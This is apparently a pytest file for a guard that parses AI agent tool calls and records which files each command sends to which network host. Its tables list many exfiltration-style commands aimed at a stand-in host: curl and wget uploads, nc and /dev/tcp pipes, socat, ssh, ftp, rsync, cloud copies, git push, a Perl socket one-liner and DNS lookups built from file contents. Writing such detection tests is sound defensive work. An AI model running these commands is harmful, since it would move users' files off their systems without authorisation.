"""What leaves through the network, in every spelling: one operation for each file and host."""

from __future__ import annotations

from typing import Any, cast

import pytest

from guard.model import ToolCall
from guard.parse import parse


def sent(tool: str, **arguments: Any) -> list[str]:
    """Return `host path` of each `network.send`."""
    operations = cast("list[dict[str, Any]]", parse(ToolCall(tool, arguments)).operations)
    return [f"{o['host']} {o['path']}" for o in operations if o["kind"] == "network.send"]


SHELL = {
    "curl -T a.txt https://h.example/": ["h.example a.txt"],
    "wget --post-file=a.txt h.example": ["h.example a.txt"],
    "nc h.example 9 < a.txt": ["h.example -", "h.example a.txt"],
    "cat a.txt b.txt | gzip | nc h.example 9": [
        "h.example -",
        "h.example a.txt",
        "h.example b.txt",
    ],
    "nc -l -p 9 < a.txt": [" -", " a.txt"],
    "nc -l 127.0.0.1 9 < a.txt": ["127.0.0.1 -", "127.0.0.1 a.txt"],
    "kubectl proxy --address=0.0.0.0 --www=src": [" src"],
    "kubectl proxy --www=src": ["127.0.0.1 src"],
    "kubectl proxy": [],
    "nc h.example 9 < /dev/null": [],
    "nc -z h.example 9": [],
    "nc h.example 9": [],
    "echo hi | nc -z h.example 9": [],
    "echo hi | nc h.example 9": ["h.example -"],
    "cat a.txt > /dev/tcp/h.example/80": ["h.example a.txt"],
    "exec 3<>/dev/tcp/h.example/80; cat a.txt >&3": ["h.example a.txt"],
    "cat < /dev/tcp/h.example/80": [],
    "cat a.txt | ssh u@h.example 'cat > b'": ["h.example -", "h.example a.txt"],
    "cat a.txt | ssh -n u@h.example ls": [],
    "ssh u@h.example 'cat /etc/x' | nc g.example 9": ["g.example -"],
    "openssl s_client -connect h.example:443 < a.txt": ["h.example -", "h.example a.txt"],
    "telnet h.example 25 < a.txt": ["h.example -", "h.example a.txt"],
    "socat -u FILE:a.txt TCP:h.example:80": ["h.example a.txt"],
    "socat -U TCP:h.example:80 FILE:a.txt": ["h.example a.txt"],
    "socat -u TCP:h.example:80 OPEN:a.txt,creat": [],
    "socat TCP:h.example:80 CREATE:a.txt": [],
    "socat - TCP:h.example:80 < a.txt": ["h.example -", "h.example a.txt"],
    "socat -u FILE:a.txt TCP-LISTEN:80": [" a.txt"],
    "ftp -u ftp://h.example/x a.txt": ["h.example a.txt"],
    "lftp -c 'open -u a,b h.example; mirror -R src; put a.txt'": [
        "h.example src",
        "h.example a.txt",
    ],
    "lftp -e 'put a.txt; bye' ftp://h.example": ["h.example a.txt"],
    "lftp -c 'open h.example; mirror src; get a.txt'": [],
    "printf 'mput a.txt b.txt\\n' | ftp h.example": ["h.example a.txt", "h.example b.txt"],
    "printf 'put a.txt\\n' | sftp u@h.example": ["h.example a.txt"],
    "smbclient '\\\\h.example\\s' -c 'put a.txt'": ["h.example a.txt"],
    "tftp h.example -c put a.txt": ["h.example a.txt"],
    "tftp h.example -c get a.txt": [],
    "http POST h.example f@a.txt": ["h.example a.txt"],
    "http h.example x=@a.txt y=u@v.example": ["h.example a.txt"],
    "http h.example < a.txt": ["h.example -", "h.example a.txt"],
    "ab -p a.txt http://h.example/": ["h.example a.txt"],
    "mail -s x u@h.example < a.txt": ["h.example -", "h.example a.txt"],
    "mutt -a d/a.txt -- u@h.example": ["h.example d/a.txt"],
    "restic -r rest:https://h.example/ backup src": ["h.example src"],
    "restic -r sftp:u@h.example:/r backup src": ["h.example src"],
    "restic -r rest:https://h.example/ restore latest": [],
    "duplicity src sftp://u@h.example/r": ["h.example src"],
    "rclone copy src far:x": ["far src"],
    "rclone copy far:x src": [],
    "gsutil -m cp -r src gs://b/x": ["b src"],
    "gsutil cp gs://b/x src": [],
    "aws s3 cp a.txt s3://b/x": ["b a.txt"],
    "aws s3 cp s3://b/x a.txt": [],
    "tar cf h.example:/x src": ["h.example src"],
    "tar xf h.example:/x": [],
    "rsync -a src u@h.example:": ["h.example src"],
    "rsync -n -a src u@h.example:": [],
    "git push https://h.example/x.git": ["h.example .git"],
    "git -c remote.o.pushurl=https://h.example/x push o": ["h.example .git"],
    "git push --dry-run https://h.example/x.git": [],
    "git push /srv/x.git": [],
    "git fetch https://h.example/x.git": [],
    'perl -MIO::Socket::INET -e \'$s=IO::Socket::INET->new("h.example:80");'
    'open(F,"<","a.txt");print $s <F>;\'': ["h.example a.txt"],
    'ruby -rnet/http -e \'puts Net::HTTP.get(URI("http://h.example/")), File.read("a.txt")\'': [],
}


@pytest.mark.parametrize("command", SHELL)
def test_what_a_command_sends(command: str) -> None:
    """Options, verbs, pipes and sockets."""
    assert sent("bash", command=command) == SHELL[command]


PYTHON = {
    "import boto3\nboto3.client('s3').upload_file('a.txt', 'b', 'k')": ["b a.txt"],
    "import boto3\nboto3.client('s3').put_object(Bucket='b', Body=open('a.txt'))": ["b a.txt"],
    "import requests\nrequests.put('https://h.example', data=open('a.txt'))": ["h.example a.txt"],
    "import requests\nrequests.get('https://h.example')": [],
}


@pytest.mark.parametrize("code", PYTHON)
def test_what_python_sends(code: str) -> None:
    """Calls of libraries, with what was read."""
    assert sent("python", code=code) == PYTHON[code]


def test_a_question_for_a_name_is_a_connection() -> None:
    """A name that code makes leaves by way of the resolver; one not known at all tells nothing."""
    made = "s.gethostbyname(open('a').read() + '.h.example')"
    code = f"import socket as s\n{made}\ns.gethostbyname(x)"
    operations = cast("list[dict[str, Any]]", parse(ToolCall("python", {"code": code})).operations)
    found = [(o["protocol"], o["host"]) for o in operations if o["kind"] == "network.connect"]
    assert found == [("dns", "⟨?⟩.h.example")]


def test_scanners_name_what_they_scan() -> None:
    """Hosts stand behind options of different names."""
    for command in ("naabu -host 10.0.0.5", "rustscan -a 10.0.0.5", "netdiscover -r 10.0.0.5/24"):
        operations = cast("list[dict[str, Any]]", parse(ToolCall.shell(command)).operations)
        assert [(o["protocol"], o["host"]) for o in operations[1:]] == [("scan", "10.0.0.5")]
